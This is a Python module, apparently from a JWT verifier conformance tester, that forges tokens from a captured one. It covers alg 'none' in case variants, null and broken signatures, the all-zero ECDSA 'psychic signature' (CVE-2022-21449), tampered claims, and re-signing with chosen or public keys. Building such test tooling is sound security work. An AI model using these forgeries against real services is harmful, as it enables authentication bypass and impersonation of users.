"""Forged tokens built from a captured one: raw base64 where no library would produce the token."""

from __future__ import annotations

import hmac
import json
import re
import shlex
import warnings
from collections.abc import Callable
from typing import Any

from conformance.attacks.cracking import HMAC_HASHES
from conformance.minting import b64url, forge, split

# Spellings of "none" a blocklist compared case-sensitively lets through.
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
# The all-zero ECDSA signature (r = s = 0) in both encodings a verifier may parse (CVE-2022-21449).
PSYCHIC_SIGNATURES = {"raw": bytes(64), "der": bytes([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])}
# Where a reproducer puts the person's own token and what it calls the forged one.
TOKEN_VARIABLE = "TOKEN"
FORGED_VARIABLE = "FORGED"
# A recipe word the shell is to expand ("$SECRET": a key the report must not show).
SHELL_VARIABLE = re.compile(r"\$[A-Z_]+")


class Forged(str):
    """A forged token that knows how it was made: ``recipe`` is the ``authconform forge``
    arguments (the kind of forgery, then its options) that build it again from a real token."""

    recipe: tuple[str, ...]

    def __new__(cls, token: str, *recipe: str) -> Forged:
        made = super().__new__(cls, token)
        made.recipe = recipe
        return made

    def command(self) -> str:
        """The shell line rebuilding this forgery from the person's own token in ``$TOKEN``."""
        kind, *options = self.recipe
        words = [f'"{word}"' if SHELL_VARIABLE.fullmatch(word) else shlex.quote(word) for word in options]
        return " ".join(["authconform forge", shlex.quote(kind), f'--token "${TOKEN_VARIABLE}"', *words])


def header_of(token: str) -> dict[str, Any]:
    return split(token)[0]


def claims_of(token: str) -> dict[str, Any]:
    return split(token)[1]


def key_naming_header(token: str) -> dict[str, Any]:
    """The parameters of the real header worth keeping on a re-signed token (typ and kid)."""
    return {key: value for key, value in header_of(token).items() if key in ("typ", "kid")}


def hmac_sign(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """An HS* token signed by hand, for keys PyJWT refuses (empty, a PEM public key, a file's bytes)."""
    unsigned = forge(header, claims)[:-1]  # "head.body." without the trailing dot
    digest = hmac.digest(key, unsigned.encode(), HMAC_HASHES[str(header["alg"])])
    return f"{unsigned}.{b64url(digest)}"


def alg_none(token: str, spelling: str = "none") -> Forged:
    """The token re-encoded with ``alg`` set to ``spelling`` and an empty signature."""
    header, claims, _signature = split(token)
    return Forged(forge({**header, "alg": spelling}, claims), "alg-none", "--alg", spelling)


def signature_null(token: str, *, drop_dot: bool = False) -> Forged:
    """The token with its signature emptied ("head.body.") or cut off with its dot ("head.body")."""
    head, body, _signature = token.split(".")
    if drop_dot:
        return Forged(f"{head}.{body}", "sig-null", "--drop-dot")
    return Forged(f"{head}.{body}.", "sig-null")


def signature_broken(token: str) -> Forged:
    """The token with the first character of its signature changed."""
    head, body, signature = token.split(".")
    flipped = ("A" if signature[:1] != "A" else "B") + signature[1:]
    return Forged(f"{head}.{body}.{flipped}", "sig-broken")


def psychic(token: str, encoding: str = "raw") -> Forged:
    """The token as ES256 with the signature r = s = 0, ``raw`` (64 zero bytes) or ``der``."""
    header, claims, _signature = split(token)
    signature = b64url(PSYCHIC_SIGNATURES[encoding])
    return Forged(forge({**header, "alg": "ES256"}, claims, signature), "psychic", "--encoding", encoding)


def tampered(token: str, changes: dict[str, Any]) -> Forged:
    """The token with ``changes`` written into its payload and its original signature kept."""
    head, _body, signature = token.split(".")
    claims = {**claims_of(token), **changes}
    return Forged(forge(head, claims, signature), "claims", *_assignments(changes))


def resigned(token: str, key: str | bytes, *, algorithm: str | None = None,
             claims: dict[str, Any] | None = None, shown_key: str | None = None,
             changes: dict[str, Any] | None = None) -> Forged:
    """The token's claims (or ``claims``), plus ``changes``, signed with ``key``: an HMAC secret, or
    a PEM private key for RS/ES/PS/EdDSA. ``shown_key`` is what the recipe says for the key (a
    shell variable for a key that must stay out of a report); the key itself by default."""
    import jwt  # only here: the cracking workers import this package without PyJWT

    header = key_naming_header(token)
    alg = algorithm or str(header_of(token).get("alg", "HS256"))
    body = {**(claims if claims is not None else claims_of(token)), **(changes or {})}
    raw = key.encode() if isinstance(key, str) else key
    if alg in HMAC_HASHES:
        signed = hmac_sign({"alg": alg, "typ": "JWT", **header}, body, raw)
    else:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            signed = jwt.encode(body, raw, algorithm=alg, headers=header)
    shown = shown_key if shown_key is not None else raw.decode("utf-8", "replace")
    options = ["--key", shown] + (["--alg", alg] if algorithm else []) + _assignments(changes or {})
    return Forged(signed, "resign", *options)


def _assignments(changes: dict[str, Any]) -> list[str]:
    """``claim=value`` words as ``authconform forge claims`` reads them (JSON for non-strings)."""
    return [f"{name}={value if isinstance(value, str) else json.dumps(value)}" for name, value in changes.items()]


def parse_assignment(text: str) -> tuple[str, Any]:
    """``sub=42`` -> ("sub", 42): the value read as JSON when it parses, else kept as a string."""
    if "=" not in text:
        raise ValueError(f"{text!r} is not a claim assignment; write NAME=VALUE, e.g. role=admin")
    name, raw = text.split("=", 1)
    try:
        return name, json.loads(raw)
    except json.JSONDecodeError:
        return name, raw


def note_recipe(evidence: list[dict[str, Any]], token: str, scrub: Callable[[str], str]) -> None:
    """Mark the exchange just recorded with the ``forge`` line that rebuilds the token it sent, so a
    report's reproducer can rebuild it from the reader's own token instead of blanking it."""
    if isinstance(token, Forged) and evidence:
        evidence[-1]["forge"] = scrub(token.command())
